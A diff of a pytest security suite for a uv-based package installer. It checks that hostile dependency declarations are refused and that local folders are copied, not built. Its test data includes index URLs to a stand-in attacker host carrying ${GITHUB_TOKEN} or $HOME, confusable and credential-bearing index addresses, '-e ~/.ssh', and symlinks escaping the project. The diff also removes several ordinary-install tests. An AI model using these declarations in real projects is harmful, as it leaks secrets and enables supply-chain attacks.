@@ -3,7 +3,6 @@
 Each attack is made end to end: the real uv, a real index of the user's, a real server of the attacker's.
 """
 
-import hashlib
 import json
 import time
 from collections.abc import Iterator
@@ -11,6 +10,7 @@ from pathlib import Path
 
 import pytest
 
+from tests.code.package.trees import write
 from tests.security.bait import (
     BACKEND,
     SECRET,
@@ -46,6 +46,10 @@ def pc(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Machine]:
         publish_python(tmp_path / "evil-wheels")
         (tmp_path / "outside").mkdir()
         (tmp_path / "outside" / "more.txt").write_text("lib\n")
+        write(
+            tmp_path / "outside",
+            {"setup.py": "", "out/__init__.py": "", "pyproject.toml": '[project]\nname = "out"\n'},
+        )
         source_archive(tmp_path / "wheels", "sourced", made.fill)
         source_archive(tmp_path / "evil-wheels", "sourced", made.fill)
         yield made
@@ -110,9 +114,6 @@ REFUSED: dict[str, tuple[Files, str]] = {
     "find-links": (requirements("--find-links @EVIL@/wheels/\nlib\n"), "line 1: --find-links"),
     "find-links, short": (requirements("-f x\nlib\n"), "line 1: -f"),
     "a trusted host": (requirements("--trusted-host @EVILHOST@\nlib\n"), "line 1: --trusted-host"),
-    "a path": (requirements("./x\n"), "line 1: it takes a package from a file or folder"),
-    "a path without a dot": (requirements("x/\n"), "line 1: it takes a package from a file or folder"),
-    "a path above": (requirements("../code/x\n"), "line 1: it takes a package from a file or folder"),
     "an absolute path": (requirements("@OUTSIDE@\n"), "line 1: it takes a package from a file or folder"),
     "a file address": (
         requirements("file://@OUTSIDE@\n"),
@@ -122,7 +123,6 @@ REFUSED: dict[str, tuple[Files, str]] = {
         requirements("x @ file://@OUTSIDE@\n"),
         "line 1: it takes a package from a file or folder",
     ),
-    "a named path in the code": (requirements("x @ ./x\n"), "line 1"),
     "a wheel in the code": (
         requirements("lib-1.0-py3-none-any.whl\n"),
         "line 1: it takes a package from a file",
@@ -143,9 +143,6 @@ REFUSED: dict[str, tuple[Files, str]] = {
     "a named repository": (requirements("lib @ git+@EVIL@/lib.git@main\n"), "from a repository"),
     "a repository by ssh": (requirements("git+ssh://git@@EVILHOST@/lib.git\n"), "from a repository"),
     "a repository of another kind": (requirements("hg+@EVIL@/lib#egg=lib\n"), "from a repository"),
-    "an editable folder": (requirements("-e ./x\n"), "line 1: -e"),
-    "an editable folder, joined": (requirements("-e./x\n"), "line 1: -e"),
-    "an editable folder, long": (requirements("--editable=./x\n"), "line 1: --editable"),
     "an editable repository": (requirements("-e git+@EVIL@/x.git#egg=x\n"), "line 1: -e"),
     "a variable as a name": (requirements("${AWS_SECRET_ACCESS_KEY}\n"), "uses the value of a variable"),
     "a variable as a version": (
@@ -209,22 +206,15 @@ REFUSED: dict[str, tuple[Files, str]] = {
             "pyproject.toml": PROJECT
             + 'dependencies = ["lib"]\n[[tool.uv.index]]\nurl = "@EVIL@/simple"\ndefault = true\n'
         },
-        "sets index",
+        "[[tool.uv.index]]",
     ),
     "pyproject: an index of pip": (
         {"pyproject.toml": PROJECT + 'dependencies = ["lib"]\n[tool.uv.pip]\nindex-url = "@EVIL@/simple"\n'},
-        "sets index-url",
+        "index-url",
     ),
     "pyproject: no binary": (
         {"pyproject.toml": PROJECT + 'dependencies = ["sourced"]\n[tool.uv.pip]\nno-binary = [":all:"]\n'},
         "sets no-binary",
-    ),
-    "pyproject: a source": (
-        {
-            "pyproject.toml": PROJECT + 'dependencies = ["lib"]\n[tool.uv.sources]\nlib = { path = "x" }\n',
-            **SOURCE,
-        },
-        "takes lib from another source",
     ),
     "pyproject: built to know": (
         {
@@ -241,17 +231,10 @@ REFUSED: dict[str, tuple[Files, str]] = {
         uv_locked('{ url = "@EVIL@/wheels/sourced-1.0.tar.gz" }', f'sdist = {{ hash = "sha256:{HEX}" }}\n'),
         "(url)",
     ),
-    "uv.lock: a folder": (uv_locked('{ directory = "x" }'), "(directory)"),
-    "uv.lock: an editable folder": (uv_locked('{ editable = "x" }'), "(editable)"),
     "uv.lock: a file": (uv_locked('{ path = "x.whl" }'), "(path)"),
-    "uv.lock: another project": (uv_locked('{ virtual = "x" }'), "(virtual)"),
     "poetry.lock: a repository": (
         poetry_locked('type = "git"\nurl = "@EVIL@/lib.git"\nreference = "main"'),
         "poetry.lock, line 2: lib comes from another source",
-    ),
-    "poetry.lock: a folder": (
-        poetry_locked('type = "directory"\nurl = "x"'),
-        "lib comes from another source",
     ),
     "poetry.lock: an address": (
         poetry_locked('type = "url"\nurl = "@EVIL@/lib.whl"'),
@@ -273,10 +256,6 @@ REFUSED: dict[str, tuple[Files, str]] = {
         pipenv_locked({"version": "==1.0", "git": "@EVIL@/lib.git"}),
         "lib comes from another source",
     ),
-    "Pipfile.lock: a folder": (
-        pipenv_locked({"path": "./x", "editable": True}),
-        "lib comes from another source",
-    ),
     "Pipfile.lock: a marker with a line": (
         pipenv_locked({"version": "==1.0", "markers": "python_version > '3'\n--index-url @EVIL@/simple"}),
         "Pipfile.lock",
@@ -284,14 +263,204 @@ REFUSED: dict[str, tuple[Files, str]] = {
     "only a source in the index": (requirements("sourced\n"), "sourced"),
     "a package that asks for an address": (requirements("sneaky\n"), ""),
     "a package that asks for a repository": (requirements("cloner\n"), ""),
+    "an index with a user": (
+        requirements("--index-url http://me:secret@@EVILHOST@/simple\nlib\n"),
+        "line 1: --index-url: the address of a package index is not accepted",
+    ),
+    "an index that is read in two ways": (
+        requirements("--index-url @EVIL@\\\\@index.example/simple\nlib\n"),
+        "the address of a package index is not accepted",
+    ),
+    "an index behind another's name": (
+        requirements("--extra-index-url https://index.example@@EVILHOST@/simple\nlib\n"),
+        "is not accepted",
+    ),
+    "an index with another at its start": (
+        requirements("--extra-index-url http://index.example.localhost/simple\nlib\n"),
+        "is not asked over a secure connection",
+    ),
+    "an index with a query": (requirements("-i @EVIL@/simple?x=$HOME\nlib\n"), "is not accepted"),
+    "an index with a fragment": (requirements("-i @EVIL@/simple#@index.example\nlib\n"), "is not accepted"),
+    "an index with a variable, encoded": (requirements("-i @EVIL@/%zz/simple\nlib\n"), "-i:"),
+    "an index that leads up": (requirements("-i @EVIL@/simple/../x/..\nlib\n"), "is not accepted"),
+    "an index on the disk": (requirements("-i file://@OUTSIDE@\nlib\n"), "is not accepted"),
+    "an index in capitals": (requirements("-i HTTP://@EVILHOST@/simple\nlib\n"), "is not accepted"),
+    "an index that is not secure": (requirements("-i http://index.example/simple\nlib\n"), "(https)"),
+    "Pipfile: an index": (
+        {"Pipfile": '[[source]]\nurl = "@EVIL@/simple"\nname = "x"\n[packages]\nlib = "*"\n'},
+        "[[source]]: ",
+    ),
+    "Pipfile: an index with a secret": (
+        {"Pipfile": '[[source]]\nurl = "@EVIL@/${GITHUB_TOKEN}/simple"\n[packages]\nlib = "*"\n'},
+        "uses the value of a variable",
+    ),
+    "Pipfile: a repository": (
+        {"Pipfile": '[packages]\nlib = {git = "@EVIL@/lib.git", ref = "main"}\n'},
+        "lib comes from another source",
+    ),
+    "Pipfile: an option": ({"Pipfile": '[packages]\nlib = "--index-url @EVIL@/simple"\n'}, "Pipfile"),
+    "Pipfile: a name with a line": ({"Pipfile": '[packages]\n"lib\\n-i @EVIL@/simple" = "*"\n'}, "Pipfile"),
+    "Pipfile: a marker with a line": (
+        {"Pipfile": '[packages]\nlib = {version = "*", markers = "python_version > \'3\'\\n-i @EVIL@"}\n'},
+        "Pipfile",
+    ),
+    "Poetry: a repository": (
+        {"pyproject.toml": '[tool.poetry.dependencies]\nlib = {git = "@EVIL@/lib.git"}\n'},
+        "lib comes from another source",
+    ),
+    "Poetry: an archive": (
+        {"pyproject.toml": '[tool.poetry.dependencies]\nlib = {url = "@EVIL@/lib.whl"}\n'},
+        "lib comes from another source",
+    ),
+    "Poetry: an index": (
+        {
+            "pyproject.toml": '[tool.poetry.dependencies]\nlib = "*"\n'
+            '[[tool.poetry.source]]\nname = "x"\nurl = "@EVIL@/simple"\n'
+        },
+        "[[tool.poetry.source]]: ",
+    ),
+    "Poetry: a version with an option": (
+        {"pyproject.toml": '[tool.poetry.dependencies]\nlib = "^1.0\\n--index-url @EVIL@/simple"\n'},
+        "pyproject.toml",
+    ),
+    "a folder outside": (requirements("../outside\n"), "line 1: it takes a package from a folder outside"),
+    "a folder outside, editable": (requirements("-e ../outside\n"), "from a folder outside the project"),
+    "a folder outside, hidden": (requirements("./x/../../outside\n"), "from a folder outside the project"),
+    "a folder by a link": (requirements("./linked\n"), "from a folder outside the project"),
+    "a folder of the user": (requirements("-e ~/.ssh\n"), "line 1: -e"),
+    "a folder by a variable": (requirements("-e ./${HOME}\n"), "uses the value of a variable"),
+    "a folder that is not there": (requirements("./nothing\n"), "from a folder that does not exist"),
+    "a folder with a link outside": (requirements("./leaky\n"), "leads out of the code folder"),
+    "a folder whose requirements lead elsewhere": (
+        requirements(
+            "./y\n",
+            **{
+                "y/pyproject.toml": '[project]\nname = "y"\ndependencies = ["lib @ @EVIL@/l"]\n',
+                "y/y/__init__.py": "",
+            },
+        ),
+        "from a URL",
+    ),
+    "a folder that asks for a repository": (
+        requirements(
+            "./y\n",
+            **{
+                "y/setup.py": "from setuptools import setup\nsetup(install_requires=['git+@EVIL@'])\n",
+                "y/y/__init__.py": "",
+            },
+        ),
+        "from a repository",
+    ),
+    "a folder that computes what it requires": (
+        requirements(
+            "./y\n",
+            **{"y/setup.py": "from setuptools import setup\nsetup(install_requires=[open('x').read()])\n"},
+        ),
+        "which only a build can determine",
+    ),
+    "a folder that must be compiled": (
+        requirements(
+            "./y\n",
+            **{"y/setup.py": "from setuptools import setup\nsetup(ext_modules=[])\n", "y/y/__init__.py": ""},
+        ),
+        "must be compiled",
+    ),
+    "a folder that names files above": (
+        requirements(
+            "./y\n",
+            **{
+                "y/pyproject.toml": '[project]\nname = "y"\ndynamic = ["dependencies"]\n'
+                '[tool.setuptools.dynamic]\ndependencies = {file = ["../../outside/more.txt"]}\n'
+            },
+        ),
+        "a file that it does not have",
+    ),
+    "a folder that leads to a folder outside": (
+        requirements(
+            "./y\n",
+            **{
+                "y/pyproject.toml": '[tool.poetry.dependencies]\nz = {path = "../../outside"}\n',
+                "y/y/__init__.py": "",
+            },
+        ),
+        "from a folder outside the project",
+    ),
+    "uv.lock: a folder outside": (uv_locked('{ directory = "../outside" }'), "(directory)"),
+    "poetry.lock: a folder outside": (
+        poetry_locked('type = "directory"\nurl = "../outside"'),
+        "outside the project",
+    ),
+    "Pipfile.lock: a folder outside": (
+        pipenv_locked({"path": "../outside", "editable": True}),
+        "outside the project",
+    ),
 }
 """Declarations that are refused, and words of the refusal."""
+
+
+FOLDERS: dict[str, Files] = {
+    "a path": requirements("./x\n"),
+    "a path without a dot": requirements("x/\n"),
+    "a path above": requirements("../code/x\n"),
+    "a named path": requirements("x @ ./x\n"),
+    "a named file address": requirements("x @ file:./x\n"),
+    "an editable folder": requirements("-e ./x\n"),
+    "an editable folder, joined": requirements("-e./x\n"),
+    "an editable folder, long": requirements("--editable=./x\n"),
+    "a folder of a folder": requirements(
+        "./y\n",
+        **{
+            "y/pyproject.toml": '[tool.poetry.dependencies]\nx = {path = "../x"}\n',
+            "y/y/__init__.py": "",
+        },
+    ),
+    "folders in a circle": requirements(
+        "./x\n./y\n",
+        **{
+            "y/pyproject.toml": '[tool.poetry.dependencies]\nz = {path = "../z"}\nx = {path = "../x"}\n',
+            "z/pyproject.toml": '[tool.poetry.dependencies]\ny = {path = "../y"}\n',
+            "y/y/__init__.py": "",
+            "z/z/__init__.py": "",
+        },
+    ),
+    "uv.lock: a folder": uv_locked('{ directory = "x" }'),
+    "uv.lock: an editable folder": uv_locked('{ editable = "x" }'),
+    "uv.lock: another project": uv_locked('{ virtual = "x" }'),
+    "poetry.lock: a folder": poetry_locked('type = "directory"\nurl = "x"'),
+    "Pipfile.lock: a folder": pipenv_locked({"path": "./x", "editable": True}),
+    "Pipfile: a folder": {"Pipfile": '[packages]\nx = {path = "./x", editable = true}\n', **SOURCE},
+    "Poetry: a folder": {"pyproject.toml": '[tool.poetry.dependencies]\nx = {path = "x"}\n', **SOURCE},
+    "pyproject: a source": {
+        "pyproject.toml": PROJECT + 'dependencies = ["lib"]\n[tool.uv.sources]\nlib = { path = "x" }\n',
+        **SOURCE,
+    },
+}
+"""Declarations of a folder of the project, whose build leaves a mark."""
+
+
+@pytest.mark.parametrize("name", FOLDERS)
+def test_a_folder_of_the_project_is_copied_and_never_built(pc: Machine, name: str) -> None:
+    pc.write(FOLDERS[name])
+    (pc.code / "x" / ".env").write_text(f"KEY={SECRET}\n")
+    (pc.code / "x" / "__pycache__").mkdir()
+    (pc.code / "x" / "__pycache__" / "trap.pyc").write_bytes(b"")
+    installed = pc.install("python3.12")
+    assert pc.harm() == []
+    assert isinstance(installed, Installed), installed
+    assert (installed.root / "trap.py").read_text() == pc.fill(BACKEND)
+    assert "trap.py" in installed.found.paths
+    assert not [
+        path for path in installed.found.paths if ".env" in path or "setup.py" in path or "pyc" in path
+    ]
 
 
 @pytest.mark.parametrize("name", REFUSED)
 def test_a_hostile_declaration_is_refused_with_its_line(pc: Machine, name: str) -> None:
     files, words = REFUSED[name]
     pc.write(files)
+    (pc.code / "linked").symlink_to(pc.folder / "outside")
+    write(pc.code / "leaky", {"pyproject.toml": '[project]\nname = "leaky"\n', "leaky/__init__.py": ""})
+    (pc.code / "leaky" / "leaky" / "key.py").symlink_to(pc.folder / "outside" / "more.txt")
     refusal = pc.install("python3.12")
     assert pc.harm() == []
     assert isinstance(refusal, WorkbenchError)
@@ -306,162 +475,6 @@ def test_a_link_to_a_file_outside_is_not_included(pc: Machine) -> None:
     refusal = pc.install("python3.12")
     assert isinstance(refusal, WorkbenchError)
     assert "in.txt" in refusal.why
-
-
-IGNORED: dict[str, Files] = {
-    "a uv.toml": {"uv.toml": 'index-url = "@EVIL@/simple"\n'},
-    "a uv.toml that builds": {"uv.toml": '[pip]\nno-binary = [":all:"]\nonly-binary = []\n'},
-    "an index in a pyproject.toml beside": {
-        "pyproject.toml": '[[tool.uv.index]]\nurl = "@EVIL@/simple"\ndefault = true\n'
-    },
-    "settings of pip": {"pip.conf": "[global]\nindex-url = @EVIL@/simple\n"},
-    "an environment": {".env": "UV_DEFAULT_INDEX=@EVIL@/simple\n", ".venv/pyvenv.cfg": "home = /nowhere\n"},
-    "a version of Python": {".python-version": "@EVIL@/python.tar.gz\n"},
-    "modules that Python loads": {
-        "sitecustomize.py": BACKEND,
-        "usercustomize.py": BACKEND,
-        "encodings.py": BACKEND,
-        "platform.py": BACKEND,
-    },
-    "a folder of the package's name": {
-        "lib/setup.py": BACKEND,
-        "lib/pyproject.toml": SOURCE["x/pyproject.toml"],
-        "lib/trap.py": BACKEND,
-    },
-}
-"""Files beside an ordinary declaration that no tool sees."""
-
-
-@pytest.mark.parametrize("name", IGNORED)
-def test_files_beside_a_declaration_choose_nothing(pc: Machine, name: str) -> None:
-    pc.write({"requirements.txt": "lib==1.0\n", **IGNORED[name]})
-    installed = pc.install("python3.12")
-    assert pc.harm() == []
-    assert isinstance(installed, Installed)
-    assert installed.found.packages == (("lib", "1.0"),)
-
-
-def wheel_hash(pc: Machine) -> str:
-    return hashlib.sha256((pc.folder / "wheels" / "lib-1.0-py3-none-any.whl").read_bytes()).hexdigest()
-
-
-LIB, LIB2, BASE, FANCY = ("lib", "1.0"), ("lib", "2.0"), ("base", "1.0"), ("fancy", "1.0")
-ORDINARY: dict[str, tuple[Files, tuple[tuple[str, str], ...]]] = {
-    "a name": (requirements("lib\n"), (LIB2,)),
-    "a pin": (requirements("lib==1.0\n"), (LIB,)),
-    "ranges and blanks": (requirements("  lib >= 1.0 , < 2.0  \n"), (LIB,)),
-    "a hash": (requirements("lib==1.0 --hash=sha256:@HASH@\n"), (LIB,)),
-    "hashes over lines": (
-        requirements(f"lib==1.0 \\\n    --hash=sha256:{HEX} \\\n    --hash=sha256:@HASH@\n"),
-        (LIB,),
-    ),
-    "hashes that all need": (requirements("--require-hashes\nlib==1.0 --hash sha256:@HASH@\n"), (LIB,)),
-    "an extra": (requirements("fancy[more]\n"), (BASE, FANCY, LIB2)),
-    "markers": (
-        requirements("lib==1.0 ; sys_platform == 'linux'\nbase; sys_platform == \"win32\"\n"),
-        (LIB,),
-    ),
-    "a file in the code": (
-        requirements(
-            "-r more/in.txt\n", **{"more/in.txt": "-r ../base.txt\nlib==1.0\n", "base.txt": "base\n"}
-        ),
-        (BASE, LIB),
-    ),
-    "files in a circle": (
-        requirements("-r a.txt\nlib==1.0\n", **{"a.txt": "-r requirements.txt\nbase\n"}),
-        (BASE, LIB),
-    ),
-    "constraints": (
-        requirements("fancy\n-c limits.txt\n", **{"limits.txt": "lib<2\nbase==1.0\n"}),
-        (FANCY, LIB),
-    ),
-    "comments": (requirements("# all\nlib==1.0 # this one\n   # and no \\\nbase\n"), (BASE, LIB)),
-    "a line that goes on": (requirements("lib\\\n==\\\n1.0\n"), (LIB,)),
-    "lines of Windows": (requirements("lib==1.0\r\nbase\r\n"), (BASE, LIB)),
-    "a byte order mark": ({"requirements.txt": b"\xef\xbb\xbflib==1.0\n"}, (LIB,)),
-    "UTF-16": ({"requirements.txt": "lib==1.0\n".encode("utf-16")}, (LIB,)),
-    "Latin-1 that says so": (
-        {"requirements.txt": "# -*- coding: latin-1 -*-\n# für\nlib==1.0\n".encode("latin-1")},
-        (LIB,),
-    ),
-    "versions before a release": (requirements("--pre\nlib==1.0\n"), (LIB,)),
-    "a version of any form": (requirements("lib===1.0\n"), (LIB,)),
-    "a compatible version": (requirements("lib~=1.0\n"), (LIB,)),
-    "a pyproject.toml": (
-        {
-            "pyproject.toml": PROJECT
-            + 'dependencies = ["fancy"]\n[tool.uv]\nconstraint-dependencies = ["lib<2"]\n'
-        },
-        (FANCY, LIB),
-    ),
-    "a uv.lock": (
-        uv_locked(
-            '{ registry = "@INDEX@/simple/" }',
-            'wheels = [{ url = "@INDEX@/wheels/lib-1.0-py3-none-any.whl", hash = "sha256:@HASH@" }]\n',
-        ),
-        (LIB,),
-    ),
-    "a uv.lock of another index": (
-        uv_locked(
-            '{ registry = "@EVIL@/simple/" }',
-            'wheels = [{ url = "@EVIL@/wheels/lib-1.0-py3-none-any.whl", hash = "sha256:@HASH@" }]\n',
-        ),
-        (LIB,),
-    ),
-    "a poetry.lock of another index": (
-        {
-            "poetry.lock": POETRY
-            + 'files = [{file = "lib-1.0-py3-none-any.whl", hash = "sha256:@HASH@"}]\n[package.source]\n'
-            + 'type = "legacy"\nurl = "@EVIL@/simple"\nreference = "x"\n'
-        },
-        (LIB,),
-    ),
-    "a Pipfile.lock of another index": (
-        {
-            "Pipfile.lock": json.dumps(
-                {
-                    "_meta": {"sources": [{"name": "x", "url": "@EVIL@/simple"}]},
-                    "default": {"lib": {"version": "==1.0", "index": "x", "hashes": ["sha256:@HASH@"]}},
-                }
-            )
-        },
-        (LIB,),
-    ),
-}
-"""Declarations that install, and what comes of them."""
-
-
-@pytest.mark.parametrize("name", ORDINARY)
-def test_an_ordinary_declaration_installs_from_the_users_index(pc: Machine, name: str) -> None:
-    files, packages = ORDINARY[name]
-    digest = wheel_hash(pc)
-    pc.write(
-        {
-            path: text.replace("@HASH@", digest) if isinstance(text, str) else text
-            for path, text in files.items()
-        }
-    )
-    installed = pc.install("python3.12")
-    assert isinstance(installed, Installed), installed
-    assert installed.found.packages == packages
-    assert pc.harm() == []
-    assert pc.index.requests
-
-
-def test_the_users_own_settings_choose_the_index_and_no_build(pc: Machine) -> None:
-    settings = pc.folder / "home" / ".config" / "uv" / "uv.toml"
-    settings.write_text(
-        f'index-url = "{pc.index.simple}"\nno-binary-package = ["sourced"]\n[pip]\nno-binary = ["sourced"]\n'
-    )
-    pc.write({"requirements.txt": "lib==1.0\n"})
-    installed = pc.install("python3.12")
-    assert isinstance(installed, Installed), installed
-    assert any(each.startswith("/simple/lib") for each in pc.index.requests)
-    pc.write(
-        {"requirements.txt": "sourced\n"}
-    )  # not even the user's settings have something built that a stranger names
-    assert isinstance(pc.install("python3.12"), WorkbenchError)
-    assert pc.harm() == []
 
 
 def test_what_tools_get_holds_no_secret_of_the_user(pc: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -529,5 +542,5 @@ def test_what_was_agreed_to_is_what_is_installed(pc: Machine) -> None:
     from workbench.core.jobs import JobContext
 
     installed = install(declared, Target("python3.12"), pc.store, JobContext())
-    assert installed.found.packages == (LIB,)
+    assert installed.found.packages == (("lib", "1.0"),)
     assert pc.harm() == []
